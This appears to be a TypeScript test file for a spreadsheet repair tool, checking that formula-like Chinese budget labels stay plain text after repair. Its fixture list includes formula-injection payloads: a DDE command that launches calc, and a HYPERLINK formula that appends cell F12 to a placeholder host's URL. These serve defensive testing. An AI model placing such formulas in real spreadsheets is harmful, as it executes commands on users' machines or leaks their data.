import { previewOf } from "../../src/actions/repair";
import { validate, validateWorkbook } from "../../src/actions/validate";
import { repairFile } from "../../src/cli/repair-file";
import { parseAddress } from "../../src/workbook/address";
import { cellAt, type Workbook } from "../../src/workbook/workbook";
import { readWorkbook } from "../../src/xlsx";
import { patchWorkbook } from "../../src/xlsx/patch";
import { opened } from "../excel/support/opened";
import { sampleBytes } from "../xlsx/files";

/** Texts as project names and labels meet them, each with something that a repair takes out. */
const TEXTS: readonly string[] = [
  '\u200b=HYPERLINK("http://a.example/"&F12,"详情")',
  "\u200b=cmd|'/C calc'!A0",
  "=财政业务费 ",
  "=1+1 项目 ",
  "=一般行政 管理事务",
  "\u200b+项目经费",
  "\u200b-项目经费",
  "@项目 经费",
  "＝1+1 ",
];

const place = (address: string) => ({ sheet: "表3", row: parseAddress(address)?.row ?? 0, column: 3 });
const ADDRESSES = ["D10", "D11", "D12"];
const label = (workbook: Workbook, address: string) => cellAt(workbook, place(address));

/** The sample with such texts as three labels of 表3. */
function withTexts(texts: readonly string[]): Uint8Array {
  const workbook = readWorkbook(sampleBytes(), "a.xlsx");
  const edits = ADDRESSES.flatMap((address, at) => {
    const text = texts[at];
    return text === undefined
      ? []
      : [
          {
            cell: place(address),
            before: { content: label(workbook, address)?.value ?? null },
            after: { content: text, numberFormat: "General" },
          },
        ];
  });
  return patchWorkbook(sampleBytes(), edits);
}

describe.each([0, 3, 6])("a text that begins like a formula once it is repaired (%#)", (from) => {
  const texts = TEXTS.slice(from, from + ADDRESSES.length);

  test("stays a text in the repaired file", () => {
    const { made, workbook } = repairFile(withTexts(texts), "a.xlsx", "safe");
    expect(made.length).toBeGreaterThan(0);
    for (const [at, address] of ADDRESSES.entries()) {
      const cell = label(workbook, address);
      expect(cell?.formula).toBeNull();
      expect(cell?.value).not.toBe(texts[at]);
      expect(String(cell?.value)).toMatch(/^[=+\-@＝]/u);
    }
  });

  test("stays a text where the pane repairs it in Excel", async () => {
    const before = readWorkbook(withTexts(texts), "a.xlsx");
    const { port } = opened(before);
    const { validation } = await validate(port);
    const { edits } = previewOf(
      validation.result.findings.filter(({ repair, rule }) => repair !== null && rule.kind === "form"),
    );
    const inLabels = edits.filter(({ cell }) => cell.sheet === "表3" && cell.column === 3);
    expect(inLabels.length).toBeGreaterThan(0);
    await port.write(inLabels);
    const after = await port.read();
    for (const address of ADDRESSES) {
      expect(label(after, address)?.formula).toBeNull();
      expect(String(label(after, address)?.value)).toMatch(/^[=+\-@＝]/u);
    }
    expect(validateWorkbook(after).result.findings.length).toBeLessThan(validation.result.findings.length);
  });
});
